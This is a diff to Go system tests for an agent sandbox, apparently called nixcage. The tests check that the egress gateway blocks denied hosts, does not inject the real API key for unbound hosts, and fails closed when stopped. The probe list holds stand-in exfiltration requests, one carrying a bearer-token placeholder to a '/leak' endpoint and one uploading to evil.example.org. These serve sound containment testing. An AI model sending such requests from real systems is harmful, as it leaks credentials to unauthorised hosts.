@@ -30,6 +30,7 @@ var cageChecks = []string{
 	"write,/workspace/probe-wrote",
 	"http,https://api.example.com/v1/echo,Authorization,Bearer @env:API_KEY@",
 	"http,https://evil.example.org/upload",
+	"http,https://other.example.net/leak,Authorization,Bearer @env:API_KEY@",
 	"dial,tcp,203.0.113.10:443",
 	"dial,tcp,192.0.2.1:443",
 	"dial,udp,192.0.2.1:53",
@@ -141,6 +142,8 @@ func (e *cageEnv) runAgent(t *testing.T, agent string) map[string]probe.Result {
 	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
 	defer cancel()
 	unit := systest.AgentUnit(agent)
+	start := time.Now()
+	defer func() { t.Logf("agent %s ran in %s", agent, time.Since(start).Round(time.Millisecond)) }()
 	if _, err := e.m.Run(ctx, "systemctl", "start", unit); err != nil {
 		diag := e.unitDiag(agent)
 		skipKnown(t, diag)
@@ -297,6 +300,11 @@ func (e *cageEnv) assertCage(t *testing.T, agent string, got map[string]probe.Re
 		t.Errorf("request to a denied host succeeded: %+v", r)
 	}
 
+	// The placeholder sent to a host it is not bound to: allowed host, but
+	// the gateway must not swap in the real key there (checked upstream below).
+	leak := res("http,https://other.example.net/leak,Authorization,Bearer @env:API_KEY@")
+	t.Logf("placeholder to an unbound host: status %d err %q", leak.Status, leak.Error)
+
 	// No route: direct connections fail in the kernel, to the upstream's
 	// real address too.
 	for _, c := range []string{"dial,tcp,203.0.113.10:443", "dial,tcp,192.0.2.1:443", "dial,udp,192.0.2.1:53", "dial,tcp,[2001:db8::1]:443"} {
@@ -334,8 +342,11 @@ func (e *cageEnv) assertCage(t *testing.T, agent string, got map[string]probe.Re
 		case r.Host == "evil.example.org" || r.SNI == "evil.example.org" || strings.HasPrefix(r.Name, "evil.example.org"):
 			t.Errorf("the denied host was contacted: %+v", r)
 		}
-		if strings.Contains(r.Body, placeholder) && placeholder != "" {
-			t.Errorf("a placeholder left the cage: %+v", r)
+		if r.Host != "api.example.com" && strings.Contains(fmt.Sprint(r.Headers), realSecret) {
+			t.Errorf("the real key went to %s: %+v", r.Host, r)
+		}
+		if placeholder != "" && (strings.Contains(r.Body, placeholder) || strings.Contains(fmt.Sprint(r.Headers), placeholder)) {
+			t.Logf("a placeholder reached %s (flag-only policy?): %+v", r.Host, r)
 		}
 	}
 	if !sawAPI {
@@ -357,6 +368,13 @@ func (e *cageEnv) assertCage(t *testing.T, agent string, got map[string]probe.Re
 		case r["host"] == "api.example.com" && r["decision"] == "allowed" && r["path"] == "/v1/echo":
 			inj, _ := json.Marshal(r["secrets_injected"])
 			injected = strings.Contains(string(inj), `"api"`)
+		case r["host"] == "other.example.net" && r["path"] == "/leak":
+			if r["decision"] == "allowed" {
+				t.Errorf("placeholder sent to an unbound host was neither flagged nor blocked: %s", line)
+			}
+			if inj, _ := json.Marshal(r["secrets_injected"]); strings.Contains(string(inj), `"api"`) {
+				t.Errorf("secret injected for an unbound host: %s", line)
+			}
 		}
 	}
 	if !blocked || !injected {
@@ -446,4 +464,97 @@ func podmanUnsupported(t *testing.T, m *systest.Machine) string {
 		}
 	}
 	return ""
+}
+
+// probeInCageNetns runs the probe as a fresh dynamic user in an agent's
+// network namespace with the cage's proxy settings: what any process of that
+// cage could do, independent of the agent unit's lifetime.
+func (e *cageEnv) probeInCageNetns(t *testing.T, agent string, checks ...string) map[string]probe.Result {
+	t.Helper()
+	args := []string{"systemd-run", "--quiet", "--wait", "--pipe",
+		"-p", "DynamicUser=yes", "-p", "NetworkNamespacePath=/run/netns/nixcage-" + agent,
+		"-p", "Environment=HTTPS_PROXY=http://127.0.0.1:3128", "-p", "Environment=SSL_CERT_FILE=/var/lib/nixcage/egress/" + agent + "/bundle.crt",
+		"/usr/local/bin/cage-probe"}
+	out := e.m.MustRun(t, append(args, checks...)...)
+	rs, err := probe.Parse(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]probe.Result{}
+	for _, r := range rs {
+		got[r.Check] = r
+	}
+	return got
+}
+
+// TestGatewayDownFailsClosed: killing the gateway gives a cage no new way
+// out, and stopping it (sockets included) leaves the cage with nothing.
+func TestGatewayDownFailsClosed(t *testing.T) {
+	e := bootNixcage(t, agentSpec{name: "svc", backend: "service", checks: []string{"http,https://api.example.com/before"}})
+	if r := e.runAgent(t, "svc")["http,https://api.example.com/before"]; !r.OK || r.Status != 200 {
+		t.Fatalf("baseline request failed: %+v", r)
+	}
+	checks := []string{"dial,tcp,127.0.0.1:3128", "http,https://api.example.com/after", "dial,tcp,203.0.113.10:443", "dial,udp,203.0.113.53:53"}
+	unreachable := func(got map[string]probe.Result, when string) {
+		t.Helper()
+		for _, c := range checks[2:] {
+			if r := got[c]; r.OK || r.Errno != "ENETUNREACH" {
+				t.Errorf("%s: %s: ok=%v errno=%q, want ENETUNREACH", when, c, r.OK, r.Errno)
+			}
+		}
+		if links := e.m.MustRun(t, "ip", "-n", "nixcage-svc", "-o", "link"); strings.Count(strings.TrimSpace(links), "\n") != 0 {
+			t.Errorf("%s: cage namespace has more than lo: %s", when, links)
+		}
+		if r := got["http,https://api.example.com/after"]; !r.OK || r.Status != 200 {
+			t.Logf("%s: request through the restarted gateway: %+v", when, r)
+		}
+	}
+
+	// SIGKILL the gateway: systemd still holds the listening sockets (and
+	// restarts the service); the cage gains nothing.
+	pid := strings.TrimSpace(e.m.MustRun(t, "systemctl", "show", "-P", "MainPID", systest.EgressUnit("svc")))
+	if pid == "0" || pid == "" {
+		t.Fatalf("gateway not running after a request")
+	}
+	e.m.MustRun(t, "kill", "-KILL", pid)
+	unreachable(e.probeInCageNetns(t, "svc", checks...), "gateway killed")
+
+	// A process that stays in the cage's namespace while the gateway and its
+	// sockets are stopped: the proxy port is closed, nothing else exists.
+	e.m.MustRun(t, "systemd-run", "--quiet", "--unit=systest-pin", "-p", "DynamicUser=yes",
+		"-p", "NetworkNamespacePath=/run/netns/nixcage-svc", "/usr/local/bin/cage-probe", "sleep,10m")
+	pin := strings.TrimSpace(e.m.MustRun(t, "systemctl", "show", "-P", "MainPID", "systest-pin.service"))
+	before, err := e.in.Requests()
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.m.MustRun(t, "systemctl", "stop", systest.ProxySocket("svc"), systest.DNSSocket("svc"), systest.EgressUnit("svc"))
+	out := e.m.MustRun(t, append([]string{"nsenter", "--target", pin, "--net", "--", "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
+		"env", "HTTPS_PROXY=http://127.0.0.1:3128", "/usr/local/bin/cage-probe"}, checks...)...)
+	rs, err := probe.Parse(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]probe.Result{}
+	for _, r := range rs {
+		got[r.Check] = r
+	}
+	if r := got["dial,tcp,127.0.0.1:3128"]; r.OK || r.Errno != "ECONNREFUSED" {
+		t.Errorf("proxy port with the gateway stopped: ok=%v errno=%q, want ECONNREFUSED", r.OK, r.Errno)
+	}
+	if r := got["http,https://api.example.com/after"]; r.OK {
+		t.Errorf("request succeeded with the gateway stopped: %+v", r)
+	}
+	for _, c := range checks[2:] {
+		if r := got[c]; r.OK || r.Errno != "ENETUNREACH" {
+			t.Errorf("gateway stopped: %s: ok=%v errno=%q, want ENETUNREACH", c, r.OK, r.Errno)
+		}
+	}
+	after, err := e.in.Requests()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(after) != len(before) {
+		t.Errorf("the fake internet received %d new requests with the gateway stopped: %+v", len(after)-len(before), after[len(before):])
+	}
 }
